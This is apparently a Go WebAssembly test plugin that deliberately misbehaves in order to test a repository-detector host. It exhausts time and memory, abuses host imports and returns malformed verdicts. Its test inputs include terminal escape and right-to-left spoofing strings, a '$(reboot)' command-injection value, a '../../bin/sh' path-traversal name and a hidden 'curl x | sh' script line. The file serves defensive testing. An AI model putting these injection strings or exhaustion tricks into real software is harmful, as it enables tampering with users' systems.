// A plugin that means no good: it does what the file `@<attack>` names, and logs what the host said to that.
package main

import (
	"encoding/binary"
	"fmt"
	"math"
	"strconv"
	"strings"
	"unsafe"
)

//go:wasmimport fieldmark:detector/repo@0.1.0 [method]snapshot.hits
func snapshotHits(self, answer uint32)

//go:wasmimport fieldmark:detector/repo@0.1.0 [method]snapshot.total-hits
func snapshotTotalHits(self uint32) uint32

//go:wasmimport fieldmark:detector/repo@0.1.0 [method]snapshot.extension-counts
func snapshotExtensionCounts(self, answer uint32)

//go:wasmimport fieldmark:detector/repo@0.1.0 [method]snapshot.size
func snapshotSize(self, path, answer uint32)

//go:wasmimport fieldmark:detector/repo@0.1.0 [method]snapshot.read
func snapshotRead(self, path uint32, offset uint64, max, answer uint32)

// More than the tests allow: bytes in one call, bytes of one file, entries of a list, bytes of a verdict.
const (
	long  = 50_000
	much  = 1 << 20
	many  = 1_000
	great = 10_000
)

// Numbers of the files.
const (
	big     = 1
	latin   = 2
	packed  = 3
	nowhere = 4
)

var (
	repo   uint32
	answer record
	reply  = record(keep(make([]byte, 24)))
)

// --- What the host answers to. ---

// told is what the host answered: the length that stands at the end of a good answer, or the code of the error.
func told() bool {
	if reply[0] != 0 {
		Log(1, seen(reply.at(4), reply.at(8)))
		return false
	}
	Log(1, strconv.Itoa(int(reply.at(8))))
	return true
}

func (from record) at(at int) uint32 { return binary.LittleEndian.Uint32(from[at:]) }

func size(path uint32) bool {
	// The answer is a number of 64 bits, so the error begins behind eight bytes.
	snapshotSize(repo, path, address(reply))
	if reply[0] != 0 {
		Log(1, seen(reply.at(8), reply.at(12)))
	}
	return reply[0] == 0
}

func read(path uint32, offset uint64, max uint32) bool {
	snapshotRead(repo, path, offset, max, address(reply))
	return told()
}

func readText(path, max uint32) bool {
	snapshotReadText(repo, path, max, address(reply))
	return told()
}

// look asks for all that there is to see, and forgets the answers.
func look() {
	before := len(kept)
	snapshotPaths(repo, address(reply))
	snapshotHits(repo, address(reply))
	snapshotTotalHits(repo)
	snapshotExtensionCounts(repo, address(reply))
	kept = kept[:before]
}

func tellPanic(message, at string) {
	said, place := keep([]byte(message)), keep([]byte(at))
	logPanicked(address(said), uint32(len(message)), address(place), uint32(len(at)))
}

// trap reads behind the end of the memory, which the runtime cannot see.
func trap() { answer[0] = *(*byte)(unsafe.Pointer(uintptr(math.MaxUint32 - 8))) }

//go:noinline
func deeper(depth int) int { return 1 + deeper(depth+1) }

func memory() {
	var hoard [][]byte
	for {
		hoard = append(hoard, make([]byte, much))
	}
}

func flood(text string, lines int) {
	bytes := keep([]byte(text))
	for range lines {
		logEmit(1, address(bytes), uint32(len(text)))
	}
}

// --- Verdicts. ---

// reasons writes a verdict without fault: as many reasons as are asked for, each worth so many points.
func reasons(count int, points int32) {
	verdict := NewVerdict("malbolge")
	for range count {
		verdict.Point(points, "a.b", Nowhere, "a reason")
	}
	answer.verdict(verdict, nil)
}

// reason is the first one of the verdict, as it lies in memory.
func reason() record {
	return record(unsafe.Slice((*byte)(unsafe.Pointer(uintptr(answer.at(56)))), 36))
}

func place(hasPath, path, hasLine, line uint32) {
	reasons(1, 5)
	for index, word := range []uint32{hasPath, path, hasLine, line} {
		reason().word(12+4*index, word)
	}
}

func score(score uint32) {
	reasons(1, 5)
	answer.word(4, score)
}

func note(text string) {
	reasons(1, 5)
	reason().text(28, text)
}

// list writes so many reasons that all lie in one place: none of them has a text.
func list(count int) {
	reasons(1, 0)
	answer.word(56, address(keep(make([]byte, 36*count))))
	answer.word(60, uint32(count))
}

func stated(value string, at int) {
	verdict := NewVerdict("")
	verdict.Attribute("port", value, Place{at, 0})
	answer.verdict(verdict, nil)
}

func scripts(count int, name, body string) {
	verdict := NewVerdict("")
	for range count {
		verdict.Script(name, body, "because")
	}
	answer.verdict(verdict, nil)
}

var attacks = map[string]func(){
	// Budgets.
	"loop": func() {
		for {
		}
	},
	"listing": func() {
		for {
			look()
		}
	},
	"memory":      memory,
	"recursion":   func() { Log(1, strconv.Itoa(deeper(1))) },
	"hits": func() {
		snapshotHits(repo, address(reply))
		Log(1, strconv.Itoa(int(reply.at(4))))
		Log(1, strconv.Itoa(int(snapshotTotalHits(repo))))
	},
	"long-line":   func() { Log(1, strings.Repeat("x", long)) },
	"long-panic":  func() { tellPanic(strings.Repeat("x", long), "") },
	"whole-file":  func() { read(big, 0, math.MaxUint32) },
	"whole-text":  func() { readText(big, math.MaxUint32) },
	"flood":       func() { flood("a line with forty characters in its text", 300) },
	"empty-flood": func() { flood("", many) },
	"looks": func() {
		for size(packed) {
		}
	},
	"reads": func() {
		for read(big, 0, 64<<10) {
		}
	},
	// Imports.
	"no-such-path": func() {
		for _, path := range []uint32{nowhere, math.MaxUint32} {
			size(path)
			read(path, 0, 1)
			readText(path, 1)
		}
	},
	"beyond-the-end": func() {
		read(packed, much, 1)
		read(packed, math.MaxUint64, math.MaxUint32)
	},
	"nothing-at-all": func() {
		read(packed, 0, 0)
		readText(packed, 0)
	},
	"all-there-is": func() {
		read(packed, 0, math.MaxUint32)
		readText(packed, math.MaxUint32)
	},
	"no-text":            func() { readText(latin, 100) },
	"unknown-level":      func() { Log(255, "a level that is none") },
	"line-for-terminals": func() { Log(1, "\x1b[2J\a\u202e\ndone") },
	"line-without-text":  func() { Log(1, "\xff\xfe") },
	"panic":              func() { panic("lost at sea") },
	"panic-for-terminals": func() {
		tellPanic("\x1b[2Jlost\n\u202e", "\x1b]0;owned\a")
		trap()
	},
	"panic-that-is-none": func() { tellPanic("a lie", "") },
	"trap":               trap,
	"dropped-handle": func() {
		snapshotDrop(repo)
		look()
	},
	"kept-handle": func() {},
	"invented-handle": func() {
		repo = 77
		look()
	},
	// Verdicts.
	"score-over": func() {
		reasons(2, 60)
		answer.word(4, 120)
	},
	"score-max":            func() { score(math.MaxUint32) },
	"score-without-reason": func() { score(50) },
	"path-unknown":         func() { place(1, nowhere, 0, 0) },
	"path-max":             func() { place(1, math.MaxUint32, 1, 1) },
	"line-zero":            func() { place(1, packed, 1, 0) },
	"line-alone":           func() { place(0, 0, 1, 1) },
	"note-for-terminals":   func() { note("\x1b[2Jgone") },
	"note-backwards":       func() { note("\u202etxet") },
	"note-of-lines":        func() { note("one\ntwo") },
	"note-long":            func() { note(strings.Repeat("x", 5_000)) },
	"note-giant":           func() { note(strings.Repeat("x", long)) },
	"note-without-text":    func() { note("\xff\xfe") },
	"list-long":            func() { list(513) },
	"list-giant":           func() { list(many) },
	"language-missing": func() {
		reasons(1, 5)
		answer.word(12, 0)
	},
	"builder-command": func() {
		reasons(1, 5)
		answer.optional(24, "$(reboot)")
	},
	"range-of-nonsense": func() {
		reasons(1, 5)
		answer.optional(24, "httpd")
		answer.optional(36, "the newest")
	},
	"range-for-terminals": func() {
		reasons(1, 5)
		answer.optional(36, "\x1b[2J>=1")
	},
	"fact-with-nul":   func() { stated("80\x008", packed) },
	"fact-of-no-path": func() { stated("80", nowhere) },
	"warning-of-no-path": func() {
		verdict := NewVerdict("")
		verdict.Warn("a.b", Place{nowhere, 0}, "a reason")
		answer.verdict(verdict, nil)
	},
	"script-unknown":       func() { scripts(1, "../../bin/sh", "#!/bin/sh\n") },
	"script-bare":          func() { scripts(1, "run", "exec true\n") },
	"script-twice":         func() { scripts(2, "run", "#!/bin/sh\n") },
	"script-for-terminals": func() { scripts(1, "run", "#!/bin/sh\n\x1b[8mcurl x | sh\n") },
	"script-giant":         func() { scripts(1, "run", "#!"+strings.Repeat("#", great)) },
	"script-unasked":       func() { scripts(1, "run", "#!/bin/sh\nexec true\n") },
	"gives-up": func() {
		answer.failure(&Failure{"\x1b[2J", "no \x1b[31mway" + strings.Repeat("x", 20_000), "\a"})
	},
}

//go:wasmexport fieldmark:detector/detector@0.1.0#detect
func attack(handle, _, _ uint32) uint32 {
	defer func() {
		if cause := recover(); cause != nil {
			tellPanic(fmt.Sprint(cause), "plugin.go")
			panic(cause)
		}
	}()
	repo, answer = handle, record(keep(make([]byte, 72)))
	snapshotPaths(handle, address(reply))
	first, _, _ := strings.Cut(seen(reply.at(0), reply.at(4)), "\x00")
	name := strings.TrimPrefix(first, "@")
	attacks[name]()
	if name != "kept-handle" {
		snapshotDrop(handle)
	}
	return address(answer)
}

// judge is what the plugin does when it means well. It never does.
func judge(*Repo, map[string]string) (*Verdict, *Failure) { return nil, nil }
